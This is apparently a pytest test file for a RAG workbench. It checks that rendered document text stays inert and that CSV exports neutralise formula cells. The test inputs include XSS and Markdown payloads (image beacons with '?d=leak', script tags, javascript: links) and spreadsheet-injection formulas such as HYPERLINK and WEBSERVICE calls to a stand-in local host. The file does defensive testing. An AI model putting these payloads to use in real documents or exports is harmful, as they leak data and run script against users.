"""Document text shown as text (rendered through a real CommonMark parser with HTML on), and every CSV
export path neutralising formula cells while numbers stay numbers."""

from __future__ import annotations

import csv
import html
import io
import re

import pandas as pd
import pytest
from markdown_it import MarkdownIt

from lightrag_core import Engine, QueryParam
from lightrag_core.workbench.compare import compare_question
from lightrag_core.workbench.csv_export import frame_csv, neutralise, rows_csv
from lightrag_core.workbench.result_tables import chunk_rows
from lightrag_core.workbench.review import Reviewer, reviews_csv
from lightrag_core.workbench.safe_text import TextStream, as_text

HOSTILE = [
    "![x](http://127.0.0.1:9/?d=leak)",
    "<img src=http://127.0.0.1:9/i.png> and <script>alert(1)</script>",
    "autolink <http://127.0.0.1:9/auto> and bare http://127.0.0.1:9/auto and www.example.org",
    "[a link](javascript:alert(1)) &lt;entity&gt; &#60; $x^2$ :red[shout] :material/home:",
    "# heading\n- bullet\n1. item\n> quote\n```\ncode\n```\n| a | b |\n|---|---|",
    "back\\slash *em* _em_ `code` ~~strike~~ [ref]: http://127.0.0.1:9/ref",
]
_TAG = re.compile(r"<[^>]+>")


def _visible(markdown: str) -> str:
    return " ".join(html.unescape(_TAG.sub(" ", MarkdownIt("commonmark", {"html": True}).render(markdown))).split())


@pytest.mark.parametrize("text", HOSTILE)
def test_document_text_renders_as_the_same_text_and_nothing_else(text):
    rendered = MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough").render(as_text(text))
    tags = set(re.findall(r"<(\w+)", rendered))
    assert tags <= {"p", "br", "code"}, rendered  # no img, a, script, h1, li, table …
    assert _visible(as_text(text)) == " ".join(text.split())


def test_unescaped_the_same_text_would_load_and_link():  # the check above can fail: it sees the danger
    rendered = MarkdownIt("commonmark", {"html": True}).render(HOSTILE[0] + "\n\n" + HOSTILE[1])
    assert "<img" in rendered and "<script>" in rendered


def test_lines_stay_lines():
    assert as_text("one\ntwo\r\nthree") == "one  \ntwo  \nthree"


@pytest.mark.parametrize("text", [*HOSTILE, "mail a@b.org", "x\r\ny www.example.org"])
def test_a_url_split_across_stream_parts_is_still_one_word(text):
    for size in (1, 2, 3, 7):
        stream = TextStream(text[i:i + size] for i in range(0, len(text), size))
        shown = "".join(stream)
        assert stream.text == text and shown == as_text(text)


def test_words_holding_urls_or_addresses_are_verbatim_code_spans():
    assert as_text("see http://h/?d=1) and www.x.org, a@b.org or `x`://y") == (
        "see `http://h/?d=1)` and `www.x.org,` `a@b.org` or `` `x`://y ``")
    assert as_text("no.link here") == "no\\.link here"


@pytest.mark.parametrize("cell", ["=HYPERLINK(\"http://x\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_cells_get_a_leading_quote(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", [-3, 2.5, 0, None, True, "plain", "a=b", "", "'already"])
def test_other_cells_are_unchanged(cell):
    assert neutralise(cell) == cell


def _read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_frames_keep_numbers_and_neutralise_text_and_headers():
    out = _read(frame_csv(pd.DataFrame([{"n": -3, "x": 1.5, "s": "=1+1", "=h": "ok"}])))
    assert out == [{"n": "-3", "x": "1.5", "s": "'=1+1", "'=h": "ok"}]


def test_rows_csv_uses_the_given_columns():
    assert _read(rows_csv([{"a": "@x", "b": 2, "extra": "dropped"}], ["a", "b"])) == [{"a": "'@x", "b": "2"}]


FORMULA_DOC = ("Marie Curie worked in Paris at the Sorbonne. "
               "=HYPERLINK(\"http://127.0.0.1:9/?d=leak\",\"click\") was written by Marie Curie in Paris.")


@pytest.fixture(scope="module")
def formula_engine(tmp_path_factory):
    from lightrag_core import Settings

    engine = Engine(Settings.from_env(tmp_path_factory.mktemp("formula"), llm_model="", neo4j_uri="",
                                      embedding_model=""))
    report = engine.index_uploads([], None, [("=1+2 notes", FORMULA_DOC)])
    assert not report.failed, report.failed
    yield engine
    engine.close()


def test_the_query_chunks_export_neutralises_document_text(formula_engine):
    result = formula_engine.query_data("HYPERLINK", QueryParam(mode="naive"))
    rows = _read(frame_csv(pd.DataFrame(chunk_rows(result))))
    assert rows and all(not r["content"].startswith(("=", "+", "-", "@")) for r in rows)
    assert any(r["content"].startswith("Marie Curie") for r in rows)
    assert rows[0]["tokens"].isdigit()


def test_the_compare_export_neutralises_questions_and_answers(formula_engine):
    rows = compare_question(formula_engine, "=HYPERLINK(\"http://x\")", ["naive"], answers=False)
    table = pd.DataFrame([{"question": "=HYPERLINK(\"http://x\")", **r} for r in rows])
    out = _read(frame_csv(table))
    assert out[0]["question"] == "'=HYPERLINK(\"http://x\")" and out[0]["mode"] == "naive"
    assert float(out[0]["chunks_kept"]) >= 1


def test_the_review_history_export_neutralises_items_and_comments(formula_engine):
    engine = formula_engine
    reviewer = Reviewer(engine.store, engine.embedder, engine.summariser, "@reviewer")
    reviewer.approve("entity", "=1+2", "-looks right")
    out = _read(reviews_csv(reviewer.history()))
    assert {k: out[0][k] for k in ("item", "comment", "reviewer", "decision")} == {
        "item": "'=1+2", "comment": "'-looks right", "reviewer": "'@reviewer", "decision": "approve"}


def test_the_documents_export_neutralises_a_hostile_title(formula_engine):
    docs = formula_engine.documents()
    out = _read(frame_csv(pd.DataFrame([{"title": d.title, "chunks": d.chunk_count} for d in docs])))
    assert out[0]["title"] == "'=1+2 notes.txt" and out[0]["chunks"].isdigit()


def test_the_console_export_neutralises_what_the_server_returned():
    from lightrag_core.storage.neo4j.store import Neo4jStore
    from lightrag_core.workbench.cypher_console import CypherConsole
    from tests.support.fake_neo4j import FakeNeo4jDriver
    from tests.support.recorded_plans import plan_for

    rows = [["=WEBSERVICE(\"http://x\")", -1], ["@x", 2]]
    driver = FakeNeo4jDriver(read=lambda statement, params: (["e.name", "n"], rows), plan=plan_for)
    result = CypherConsole(Neo4jStore(driver, "neo4j", "ws"), None).run(
        "MATCH (e:Entity {workspace: $workspace}) RETURN e.name LIMIT 10")
    out = _read(frame_csv(pd.DataFrame(result.rows, columns=result.columns)))
    assert out == [{"e.name": "'=WEBSERVICE(\"http://x\")", "n": "-1"}, {"e.name": "'@x", "n": "2"}]
